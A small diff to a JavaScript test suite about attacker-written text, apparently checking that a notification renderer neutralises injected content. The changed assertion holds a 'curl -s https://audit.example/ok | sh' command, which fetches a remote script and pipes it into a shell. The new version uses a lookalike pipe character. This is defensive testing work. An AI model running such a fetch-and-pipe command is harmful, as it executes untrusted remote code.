@@ -192,7 +192,7 @@ describe('texts written by attackers', () => {
   test('that read like a section are shown not to be one', () => {
     const alert = findingAlert(raiseFinding(told, event(FAKE, 'x', 'e')), 'x', []);
 
-    expect(rendered(alert).email).toContain('Command<:> curl -s https://audit.example/ok | sh');
+    expect(rendered(alert).email).toContain('Command<:> curl -s https://audit.example/ok ｜ sh');
   });
 
   test('who are no names stand in quotes in an SMS', () => {
